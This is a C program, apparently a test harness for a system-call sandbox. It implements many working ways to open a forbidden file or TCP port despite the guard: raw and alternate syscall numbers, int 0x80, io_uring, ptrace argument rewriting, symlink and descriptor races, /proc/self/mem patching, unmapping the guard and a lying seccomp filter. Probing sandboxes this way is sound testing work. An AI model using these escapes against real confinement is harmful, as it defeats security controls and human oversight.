/* Ways around a check of system calls: escape TECHNIQUE tcp HOST PORT ALLOWED_PORT, or
 * escape TECHNIQUE read FILE ALLOWED_FILE, or escape TECHNIQUE unix SOCKET ALLOWED_SOCKET. Prints what it got. Each works where nothing guards it;
 * exit code 77: the kernel at hand does not have what the technique needs. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/landlock.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#include "techniques.h"

#define ABSENT 77
static const char REQUEST[] = "GET / HTTP/1.0\r\n\r\n";
static const char *host, *file, *allowed_file, *local, *allowed_local, *self;
static int port, allowed_port;

static struct sockaddr_in address_of(int p) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(p)};
    inet_pton(AF_INET, host, &a.sin_addr);
    return a;
}

static int show(int fd) {
    char buffer[4096];
    ssize_t n, total = 0;
    while ((n = read(fd, buffer, sizeof buffer)) > 0) {
        fwrite(buffer, 1, n, stdout);
        total += n;
    }
    fflush(stdout);
    return total > 0 ? 0 : 1;
}

static int talk(int s) {
    if (write(s, REQUEST, sizeof REQUEST - 1) < 0) return 1;
    return show(s);
}

static int failed(const char *what) {
    perror(what);
    return 1;
}

/* The bare instruction, in this program's own text. */
static long bare(long n, long a, long b, long c, long d, long e, long f) {
    long result;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
}

static int connect_local(const char *path) {
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(a.sun_path, sizeof a.sun_path, "%s", path);
    if (connect(s, (void *)&a, sizeof a)) {
        close(s);
        return -1;
    }
    return s;
}

static int connect_plain(void) {
    if (local) {
        int s = connect_local(local);
        return s < 0 ? failed("connect") : talk(s);
    }
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (void *)&a, sizeof a)) return failed("connect");
    return talk(s);
}

static int open_plain(void) {
    int fd = open(file, O_RDONLY);
    return fd < 0 ? failed("open") : show(fd);
}

static int plain(void) { return file ? open_plain() : connect_plain(); }

static int bare_instruction(void) {
    if (file) {
        long fd = bare(SYS_openat, AT_FDCWD, (long)file, O_RDONLY, 0, 0, 0);
        return fd < 0 ? 1 : show(fd);
    }
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (bare(SYS_connect, s, (long)&a, sizeof a, 0, 0, 0) < 0) return 1;
    return talk(s);
}

/* Upper half of the register that holds the number: the kernel looks at the lower one. */
static int wide_number(void) {
    long high = 1L << 32;
    if (file) {
        long fd = bare(high | SYS_openat, AT_FDCWD, (long)file, O_RDONLY, 0, 0, 0);
        return fd < 0 ? (fd == -ENOSYS ? ABSENT : 1) : show(fd);
    }
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    long r = bare(high | SYS_connect, s, (long)&a, sizeof a, 0, 0, 0);
    return r < 0 ? (r == -ENOSYS ? ABSENT : 1) : talk(s);
}

static int x32_number(void) {
    if (!file) return ABSENT;
    long fd = bare(0x40000000 | SYS_openat, AT_FDCWD, (long)file, O_RDONLY, 0, 0, 0);
    return fd == -ENOSYS ? ABSENT : fd < 0 ? 1 : show(fd);
}

static int interrupt(void) {
    /* open and connect of the 32-bit table; what they point to has to lie below 4 GB. */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    long fd = -ENOSYS;
    if (low == MAP_FAILED) return ABSENT;
    if (!file) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        *(struct sockaddr_in *)low = address_of(port);
        __asm__ volatile("int $0x80" : "=a"(fd) : "a"(362), "b"(s), "c"(low), "d"(16) : "memory", "r8", "r9", "r10", "r11");
        return (int)fd == -ENOSYS ? ABSENT : (int)fd < 0 ? 1 : talk(s);
    }
    strncpy(low, file, 4000);
    __asm__ volatile("int $0x80" : "=a"(fd) : "a"(5), "b"(low), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
    return (int)fd == -ENOSYS ? ABSENT : (int)fd < 0 ? 1 : show((int)fd);
}

static int by_number(void) {
    if (file) {
        int fd = syscall(SYS_open, file, O_RDONLY);
        return fd < 0 ? failed("open") : show(fd);
    }
    struct sockaddr_in a = address_of(port);
    int s = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (syscall(SYS_connect, s, &a, sizeof a)) return failed("connect");
    return talk(s);
}

static int fast_open_sendto(void) {
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (sendto(s, REQUEST, sizeof REQUEST - 1, MSG_FASTOPEN, (void *)&a, sizeof a) < 0)
        return errno == EOPNOTSUPP ? ABSENT : failed("sendto");
    return show(s);
}

static int fast_open_sendmsg(void) {
    struct sockaddr_in a = address_of(port);
    struct iovec v = {(void *)REQUEST, sizeof REQUEST - 1};
    struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (sendmsg(s, &m, MSG_FASTOPEN) < 0) return failed("sendmsg");
    return show(s);
}

static int fast_open_sendmmsg(void) {
    struct sockaddr_in a = address_of(port);
    struct iovec v = {(void *)REQUEST, sizeof REQUEST - 1};
    struct mmsghdr m = {.msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1}};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (sendmmsg(s, &m, 1, MSG_FASTOPEN) < 0) return failed("sendmmsg");
    return show(s);
}

static int fast_open_connect(void) {
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;
    if (setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on)) return ABSENT;
    if (connect(s, (void *)&a, sizeof a)) return failed("connect");
    return talk(s);
}

static int mapped_address(void) {
    struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    char text[64];
    int s = socket(AF_INET6, SOCK_STREAM, 0);
    if (s < 0) return ABSENT;
    snprintf(text, sizeof text, "::ffff:%s", host);
    inet_pton(AF_INET6, text, &a.sin6_addr);
    if (connect(s, (void *)&a, sizeof a)) return failed("connect");
    return talk(s);
}

static int unspecified_address(void) {
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_addr.s_addr = 0;
    if (connect(s, (void *)&a, sizeof a)) return failed("connect");
    return talk(s);
}

/* One thread changes the address, or the path, while the other uses it. */
static union { struct sockaddr_in address; char path[4096]; } volatile shared;
static volatile int stop;

static void *flip(void *unused) {
    struct sockaddr_in good = address_of(allowed_port), bad = address_of(port);
    (void)unused;
    while (!stop) {
        if (file) {
            for (size_t i = 0; i <= strlen(file); i++) shared.path[i] = file[i];
            for (size_t i = 0; i <= strlen(allowed_file); i++) shared.path[i] = allowed_file[i];
        } else {
            shared.address.sin_port = bad.sin_port;
            shared.address.sin_port = good.sin_port;
        }
    }
    return NULL;
}

static int race_of_memory(void) {
    pthread_t thread;
    time_t end = time(NULL) + 5;
    if (file) strcpy((char *)shared.path, allowed_file);
    else shared.address = address_of(allowed_port);
    pthread_create(&thread, NULL, flip, NULL);
    while (time(NULL) < end) {
        if (file) {
            struct stat got, wanted;
            int fd = open((char *)shared.path, O_RDONLY);
            if (fd < 0) continue;
            fstat(fd, &got);
            if (!stat(file, &wanted) && got.st_ino == wanted.st_ino) return show(fd);
            close(fd);
            continue;
        }
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in peer;
        socklen_t length = sizeof peer;
        if (!connect(s, (void *)&shared.address, sizeof(struct sockaddr_in)) &&
            !getpeername(s, (void *)&peer, &length) && ntohs(peer.sin_port) == port)
            return talk(s);
        close(s);
    }
    fprintf(stderr, "never in 5 s\n");
    return 1;
}

/* One thread points a link elsewhere while the other opens it. */
static char link_path[4096];

static void *relink(void *unused) {
    char other[4200];
    (void)unused;
    snprintf(other, sizeof other, "%s.new", link_path);
    while (!stop) {
        if (!symlink(file, other)) rename(other, link_path);
        if (!symlink(allowed_file, other)) rename(other, link_path);
    }
    return NULL;
}

static int race_of_links(void) {
    pthread_t thread;
    time_t end = time(NULL) + 5;
    struct stat wanted = {0}, got;
    ino_t allowed;
    if (!file) return ABSENT;
    snprintf(link_path, sizeof link_path, "/tmp/guard-escape-%d", getpid());
    symlink(allowed_file, link_path);
    stat(allowed_file, &wanted);
    allowed = wanted.st_ino;
    pthread_create(&thread, NULL, relink, NULL);
    while (time(NULL) < end) {
        int fd = open(link_path, O_RDONLY);
        if (fd < 0) continue;
        if (!fstat(fd, &got) && got.st_ino != allowed) {
            stop = 1;
            unlink(link_path);
            return show(fd);
        }
        close(fd);
    }
    stop = 1;
    unlink(link_path);
    fprintf(stderr, "never in 5 s\n");
    return 1;
}

static int in_child(int (*what)(void)) {
    int status = 0;
    pid_t pid = fork();
    if (pid == 0) _exit(what());
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int forked(void) { return in_child(plain); }

static int cloned_bare(void) {
    int status = 0;
    long pid = bare(SYS_clone, SIGCHLD, 0, 0, 0, 0, 0);
    if (pid == 0) _exit(plain());
    waitpid(pid, &status, 0);
    return WEXITSTATUS(status);
}

static char thread_stack[1 << 16];
static int thread_result = 1;
static int on_thread(void *unused) {
    (void)unused;
    thread_result = plain();
    _exit(thread_result);
}

static int cloned_sharing(void) {
    int status = 0;
    pid_t pid = clone(on_thread, thread_stack + sizeof thread_stack, CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static volatile int handled = 1;
static void handler(int signal) {
    (void)signal;
    handled = plain();
}

static int in_handler(void) {
    stack_t alternate = {.ss_sp = malloc(1 << 16), .ss_size = 1 << 16};
    struct sigaction action = {.sa_handler = handler, .sa_flags = SA_ONSTACK};
    sigaltstack(&alternate, NULL);
    sigaction(SIGUSR1, &action, NULL);
    raise(SIGUSR1);
    return handled;
}

static char *again[10];
static char **command(const char *technique) {
    static char a[16], b[16];
    int i = 0;
    snprintf(a, sizeof a, "%d", port);
    snprintf(b, sizeof b, "%d", allowed_port);
    again[i++] = (char *)self;
    again[i++] = (char *)technique;
    again[i++] = file ? "read" : "tcp";
    if (file) {
        again[i++] = (char *)file;
        again[i++] = (char *)allowed_file;
    } else {
        again[i++] = (char *)host;
        again[i++] = a;
        again[i++] = b;
    }
    return again;
}

static int exec_bare_environment(void) {
    char *none[] = {NULL};
    execve(self, command("plain"), none);
    return failed("execve");
}

static int exec_null_environment(void) {
    bare(SYS_execve, (long)self, (long)command("plain"), 0, 0, 0, 0);
    return 1;
}

static int exec_other_preload(void) {
    char *other[] = {"LD_PRELOAD=", "LD_PRELOAD=/nonexistent.so", NULL};
    execve(self, command("plain"), other);
    return failed("execve");
}

static int exec_proc_self(void) {
    char *none[] = {NULL};
    execve("/proc/self/exe", command("plain"), none);
    return failed("execve");
}

static int exec_from_memory(void) {
    char *none[] = {NULL};
    char buffer[65536];
    ssize_t n;
    int from = open(self, O_RDONLY), to = memfd_create("x", 0);
    if (to < 0) return failed("memfd_create");
    while ((n = read(from, buffer, sizeof buffer)) > 0)
        if (write(to, buffer, n) != n) return 1;
    fexecve(to, command("plain"), none);
    return failed("fexecve");
}

static int exec_vfork(void) {
    int status = 0;
    char *none[] = {NULL};
    pid_t pid = vfork();
    if (pid == 0) {
        execve(self, command("plain"), none);
        _exit(1);
    }
    waitpid(pid, &status, 0);
    return WEXITSTATUS(status);
}

static int exec_loader(void) {
    char *words[12] = {"/lib64/ld-linux-x86-64.so.2"}, *none[] = {NULL};
    char **rest = command("plain");
    for (int i = 0; rest[i]; i++) words[i + 1] = rest[i];
    execve(words[0], words, none);
    return failed("execve");
}

/* Puts the instruction back where it was, as found in the file. */
static int own_memory(void) {
    int fd = open("/proc/self/mem", O_RDWR);
    unsigned char *at = (unsigned char *)bare;
    if (fd < 0) return failed("/proc/self/mem");
    for (int i = 0; i < 128; i++) {
        unsigned char two[2] = {0x0f, 0x05};
        /* mov r9, r9's register set ends before the instruction: search for the shape of a jump. */
        if (at[i] == 0xe9 || at[i] == 0xeb) {
            if (pwrite(fd, two, 2, (off_t)(uintptr_t)(at + i)) != 2) return failed("pwrite");
            return bare_instruction();
        }
    }
    return bare_instruction();
}

static int trace_child(void) {
    struct user_regs_struct regs;
    int status, steps = 0;
    pid_t pid = fork();
    if (pid == 0) {
        /* Nobody would let it go on. */
        if (ptrace(PTRACE_TRACEME, 0, 0, 0)) _exit(failed("ptrace"));
        raise(SIGSTOP);
        /* A call whose path, or address, the tracer changes when it is made. */
        if (file) {
            int fd = open(allowed_file, O_RDONLY);
            _exit(fd < 0 ? 1 : show(fd));
        }
        port = allowed_port;
        _exit(connect_plain());
    }
    waitpid(pid, &status, 0);
    if (!WIFSTOPPED(status)) return 1;
    if (ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESYSGOOD)) return failed("ptrace");
    while (steps++ < 4000) {
        if (ptrace(PTRACE_SYSCALL, pid, 0, 0)) return failed("ptrace");
        waitpid(pid, &status, 0);
        if (WIFEXITED(status)) return WEXITSTATUS(status);
        if (!WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &regs)) continue;
        if (!file && regs.orig_rax == SYS_connect && regs.rax == (unsigned long)-ENOSYS) {
            struct sockaddr_in a = address_of(port);
            struct iovec l = {&a, sizeof a}, r = {(void *)regs.rsi, sizeof a};
            process_vm_writev(pid, &l, 1, &r, 1, 0);
        }
        if (file && regs.orig_rax == SYS_openat && regs.rax == (unsigned long)-ENOSYS) {
            struct iovec l = {(void *)file, strlen(file) + 1}, r = {(void *)regs.rsi, strlen(file) + 1};
            char seen[4096] = {0};
            struct iovec s = {seen, strlen(allowed_file) + 1};
            struct iovec t = {(void *)regs.rsi, strlen(allowed_file) + 1};
            process_vm_readv(pid, &s, 1, &t, 1, 0);
            if (!strcmp(seen, allowed_file)) process_vm_writev(pid, &l, 1, &r, 1, 0);
        }
    }
    return 1;
}

static int ring(void) {
    struct io_uring_params params = {0};
    int fd = syscall(SYS_io_uring_setup, 4, &params);
    if (fd < 0) return errno == ENOSYS || errno == EPERM ? (getenv("GUARD_MODE") ? 1 : ABSENT) : failed("io_uring_setup");
    char *sq = mmap(NULL, params.sq_off.array + params.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, params.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
    struct sockaddr_in a = address_of(file ? 1 : port);
    int s = file ? -1 : socket(AF_INET, SOCK_STREAM, 0);
    unsigned tail = *(volatile unsigned *)(sq + params.sq_off.tail), mask = *(unsigned *)(sq + params.sq_off.ring_mask);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return failed("mmap");
    memset(&sqes[tail & mask], 0, sizeof *sqes);
    if (file) {
        sqes[tail & mask].opcode = IORING_OP_OPENAT;
        sqes[tail & mask].fd = AT_FDCWD;
        sqes[tail & mask].addr = (unsigned long)file;
        sqes[tail & mask].open_flags = O_RDONLY;
    } else {
        sqes[tail & mask].opcode = IORING_OP_CONNECT;
        sqes[tail & mask].fd = s;
        sqes[tail & mask].addr = (unsigned long)&a;
        sqes[tail & mask].off = sizeof a;
    }
    ((unsigned *)(sq + params.sq_off.array))[tail & mask] = tail & mask;
    __atomic_store_n((unsigned *)(sq + params.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return failed("io_uring_enter");
    int result = ((struct io_uring_cqe *)(cq + params.cq_off.cqes))[0].res;
    if (result < 0) return 1;
    return file ? show(result) : talk(s);
}

static int by_handle(void) {
    struct { struct file_handle h; char bytes[128]; } handle = {.h = {.handle_bytes = 128}};
    int mount, where, fd;
    if (!file) return ABSENT;
    if (name_to_handle_at(AT_FDCWD, allowed_file, &handle.h, &mount, 0)) return ABSENT;
    handle.h.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, file, &handle.h, &mount, 0)) return failed("name_to_handle_at");
    where = open("/", O_RDONLY | O_DIRECTORY);
    fd = open_by_handle_at(where, &handle.h, O_RDONLY);
    if (fd < 0) return errno == EPERM && !getenv("GUARD_MODE") ? ABSENT : failed("open_by_handle_at");
    return show(fd);
}

static int path_then_reopen(void) {
    char again[64];
    int fd;
    if (!file) return ABSENT;
    fd = open(file, O_PATH);
    if (fd < 0) return failed("open");
    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
    fd = open(again, O_RDONLY);
    return fd < 0 ? failed("reopen") : show(fd);
}

/* A name beside this program. */
static void beside_self(char *name, size_t size) {
    snprintf(name, size, "%.*sguard-%d", (int)(strrchr(self, '/') + 1 - self), self, getpid());
}

/* A name in the folder of what is allowed. */
static void beside_allowed(char *name, size_t size) {
    snprintf(name, size, "%.*sguard-%d", (int)(strrchr(allowed_file, '/') + 1 - allowed_file), allowed_file, getpid());
}

static int hard_link(void) {
    char other[4200];
    int fd;
    if (!file) return ABSENT;
    beside_allowed(other, sizeof other);
    if (link(file, other)) return errno == EXDEV ? ABSENT : failed("link");
    fd = open(other, O_RDONLY);
    unlink(other);
    return fd < 0 ? failed("open") : show(fd);
}

static int move_folder(void) {
    char folder[4096], other[4200], inside[8400];
    const char *name;
    int fd;
    if (!file) return ABSENT;
    snprintf(folder, sizeof folder, "%s", file);
    name = strrchr(file, '/') + 1;
    *strrchr(folder, '/') = 0;
    beside_allowed(other, sizeof other);
    if (rename(folder, other)) return errno == EXDEV ? ABSENT : failed("rename");
    snprintf(inside, sizeof inside, "%s/%s", other, name);
    fd = open(inside, O_RDONLY);
    rename(other, folder);
    return fd < 0 ? failed("open") : show(fd);
}

static int open_by_kernel_2(void) {
    struct open_how how = {.flags = O_RDONLY};
    int fd;
    if (!file) return ABSENT;
    fd = syscall(SYS_openat2, AT_FDCWD, file, &how, sizeof how);
    return fd < 0 ? (errno == ENOSYS && !getenv("GUARD_MODE") ? ABSENT : failed("openat2")) : show(fd);
}

static int other_process_root(void) {
    char path[4300];
    int fd;
    if (!file) return ABSENT;
    snprintf(path, sizeof path, "/proc/%d/root%s", getppid(), file);
    fd = open(path, O_RDONLY);
    return fd < 0 ? failed("open") : show(fd);
}

static int passed_descriptor(void) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 1;
    if (fork() == 0) {
        char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
        struct iovec v = {&byte, 1};
        struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        int fd;
        if (file) fd = open(file, O_RDONLY);
        else {
            struct sockaddr_in a = address_of(port);
            fd = socket(AF_INET, SOCK_STREAM, 0);
            if (connect(fd, (void *)&a, sizeof a)) fd = -1;
        }
        if (fd < 0) _exit(1);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof fd);
        memcpy(CMSG_DATA(c), &fd, sizeof fd);
        sendmsg(pair[1], &m, 0);
        _exit(0);
    }
    close(pair[1]);
    char control[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
    struct iovec v = {&byte, 1};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int fd = -1;
    if (recvmsg(pair[0], &m, 0) < 1 || !CMSG_FIRSTHDR(&m)) return 1;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
    return file ? show(fd) : talk(fd);
}

/* A policy that is not there any more, or another one in its place. */
static int unmap_guard(void) {
    char line[4400];
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        if (!strstr(line, "guard") && !strstr(line, "memfd")) continue;
        if (strstr(line, self)) continue;
        if (sscanf(line, "%lx-%lx", &from, &to) != 2) continue;
        mmap((void *)from, to - from, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    }
    return plain();
}

static jmp_buf back;
static void leave(int signal) {
    (void)signal;
    siglongjmp(back, 1);
}

/* Leaves blocking calls by a jump, again and again, then goes on. */
static int jumps(void) {
    struct sigaction action = {.sa_handler = leave};
    volatile int round;
    int pair[2];
    sigaction(SIGALRM, &action, NULL);
    if (pipe(pair)) return 1;
    for (round = 0; round < 300; round++) {
        char byte;
        if (sigsetjmp(back, 1) == 0) {
            ualarm(1000, 0);
            if (!file) {
                struct sockaddr_in a;
                socklen_t length = sizeof a;
                int s = socket(AF_INET, SOCK_DGRAM, 0);
                recvfrom(s, &byte, 1, 0, (void *)&a, &length);
            } else if (read(pair[0], &byte, 1) < 0) {
                return 1;
            }
        }
    }
    return plain();
}

/* The bare instruction once more, in another mapping of this program's file. */
extern char __executable_start[];

static int in_mapping(int protection, int few, int how) {
    long (*other)(long, long, long, long, long, long, long);
    struct stat status;
    struct rlimit few_files;
    int fd = open(self, O_RDONLY), s = socket(AF_INET, SOCK_STREAM, 0);
    long got;
    char *text;
    if (fd < 0 || s < 0 || fstat(fd, &status) || getrlimit(RLIMIT_NOFILE, &few_files)) return failed("open");
    /* As many descriptors as there are: what would take another one fails. */
    few_files.rlim_cur = s + 1;
    if (few && setrlimit(RLIMIT_NOFILE, &few_files)) return failed("setrlimit");
    text = mmap(NULL, status.st_size, protection, how, fd, 0);
    few_files.rlim_cur = few_files.rlim_max;
    if (few && setrlimit(RLIMIT_NOFILE, &few_files)) return failed("setrlimit");
    if (text == MAP_FAILED) return failed("mmap");
    other = (void *)(text + ((char *)bare - __executable_start));
    if (file) {
        got = other(SYS_openat, AT_FDCWD, (long)file, O_RDONLY, 0, 0, 0);
        return got < 0 ? 1 : show(got);
    }
    struct sockaddr_in a = address_of(port);
    if (other(SYS_connect, s, (long)&a, sizeof a, 0, 0, 0) < 0) return 1;
    return talk(s);
}

static int mapped_once_more(void) { return in_mapping(PROT_READ | PROT_EXEC, 0, MAP_PRIVATE); }
static int mapped_shared(void) { return in_mapping(PROT_READ | PROT_EXEC, 0, MAP_SHARED); }
static int mapped_execute_only(void) { return in_mapping(PROT_EXEC, 0, MAP_PRIVATE); }
static int mapped_without_descriptors(void) { return in_mapping(PROT_READ | PROT_EXEC, 1, MAP_PRIVATE); }

static int mapped_implied(void) {
    if (personality(READ_IMPLIES_EXEC) < 0) return failed("personality");
    return in_mapping(PROT_READ, 0, MAP_PRIVATE);
}

/* Copies this program to a path, with its code made executable only, or as it is. */
static int copied_to(const char *path, int execute_only) {
    static char bytes[4 << 20];
    int from = open(self, O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_EXCL, 0755);
    ssize_t length = 0, n;
    if (from < 0 || to < 0) return failed("copy");
    while ((n = read(from, bytes + length, sizeof bytes - length)) > 0) length += n;
    Elf64_Ehdr *head = (void *)bytes;
    Elf64_Phdr *part = (void *)(bytes + head->e_phoff);
    for (int i = 0; execute_only && i < head->e_phnum; i++)
        if (part[i].p_type == PT_LOAD && part[i].p_flags & PF_X) part[i].p_flags = PF_X;
    if (write(to, bytes, length) != length) return failed("copy");
    close(from);
    close(to);
    return 0;
}

static int start_copy(const char *path, const char *technique) {
    int status = 0;
    pid_t pid = fork();
    if (pid == 0) {
        execv(path, command(technique));
        _exit(failed("execv"));
    }
    waitpid(pid, &status, 0);
    unlink(path);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int exec_execute_only(void) {
    char path[4200];
    beside_self(path, sizeof path);
    if (copied_to(path, 1)) return 1;
    return start_copy(path, "bare-instruction");
}

/* A path that takes four times its length where mappings are listed. */
static int exec_many_lines(void) {
    char folder[4200], path[4200], name[252];
    int result;
    beside_self(folder, sizeof folder);
    memset(name, '\n', sizeof name - 1);
    name[sizeof name - 1] = 0;
    if (mkdir(folder, 0755)) return failed("mkdir");
    strcpy(path, folder);
    for (int i = 0; i < 10; i++) {
        strcat(path, "/");
        strcat(path, name);
        if (i < 9 && mkdir(path, 0755)) return failed("mkdir");
    }
    result = copied_to(path, 0) ? 1 : start_copy(path, "plain");
    while (strlen(path) > strlen(folder)) {
        *strrchr(path, '/') = 0;
        rmdir(path);
    }
    return result;
}

/* Has the kernel say of a call that it went well, which it did not make: whoever asks where a
 * descriptor leads is told nothing. */
static int lying_filter(void) {
    struct sock_filter lines[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_readlink, 4, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_readlinkat, 3, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getsockopt, 2, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat2, 2, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
    };
    struct sock_fprog program = {.len = sizeof lines / sizeof *lines, .filter = lines};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) return failed("prctl");
    if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program)) return failed("prctl");
    return plain();
}

/* A folder changes under a name that stays: the descriptor or the working folder that it begins at
 * is another one by the time that the file is opened. */
static int good_folder, bad_folder, held_number;

static void *reopen_folder(void *unused) {
    (void)unused;
    while (!stop) {
        if (held_number >= 0) {
            dup2(good_folder, held_number);
            dup2(bad_folder, held_number);
        } else {
            if (fchdir(good_folder) || fchdir(bad_folder)) return NULL;
        }
    }
    return NULL;
}

static int folder_of(const char *path) {
    char folder[4096];
    snprintf(folder, sizeof folder, "%.*s", (int)(strrchr(path, '/') - path), path);
    return open(folder, O_PATH);
}

static int race_of_folders(int number) {
    pthread_t thread;
    time_t end = time(NULL) + 5;
    struct stat wanted, got;
    if (!file) return ABSENT;
    good_folder = folder_of(allowed_file);
    bad_folder = folder_of(file);
    if (good_folder < 0 || bad_folder < 0) return failed("open");
    if (stat(file, &wanted)) return failed("stat");
    held_number = number;
    if (number >= 0 ? dup2(good_folder, number) < 0 : fchdir(good_folder)) return failed("folder");
    pthread_create(&thread, NULL, reopen_folder, NULL);
    while (time(NULL) < end) {
        int fd = openat(number >= 0 ? number : AT_FDCWD, strrchr(file, '/') + 1, O_RDONLY);
        if (fd < 0) continue;
        if (!fstat(fd, &got) && got.st_ino == wanted.st_ino) {
            stop = 1;
            return show(fd);
        }
        close(fd);
    }
    stop = 1;
    fprintf(stderr, "never in 5 s\n");
    return 1;
}

static int race_of_descriptors(void) { return race_of_folders(50); }
static int race_of_working_folders(void) { return race_of_folders(-1); }

/* Starts this program where /proc cannot be read, so that nobody finds there that it is guarded. */
static int exec_hidden_variables(void) {
    static const char *const places[] = {"/usr", "/lib", "/lib64", "/etc", "/dev", "/tmp", NULL};
    struct landlock_ruleset_attr handled = {.handled_access_fs = LANDLOCK_ACCESS_FS_READ_FILE};
    char folder[4096];
    int rules = syscall(SYS_landlock_create_ruleset, &handled, sizeof handled, 0);
    if (rules < 0) return ABSENT;
    for (int i = -2; i < 0 || places[i]; i++) {
        const char *of = i == -2 ? self : file ? file : self;
        /* All that stands beside it below the root, the guard among that. */
        const char *end = strchr(of + 1, '/');
        snprintf(folder, sizeof folder, "%.*s", (int)(end ? end - of : 1), of);
        struct landlock_path_beneath_attr below = {
            .allowed_access = handled.handled_access_fs,
            .parent_fd = open(i < 0 ? folder : places[i], O_PATH),
        };
        syscall(SYS_landlock_add_rule, rules, LANDLOCK_RULE_PATH_BENEATH, &below, 0);
    }
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) return failed("prctl");
    if (syscall(SYS_landlock_restrict_self, rules, 0)) return failed("landlock_restrict_self");
    execv(self, command("plain"));
    return failed("execv");
}

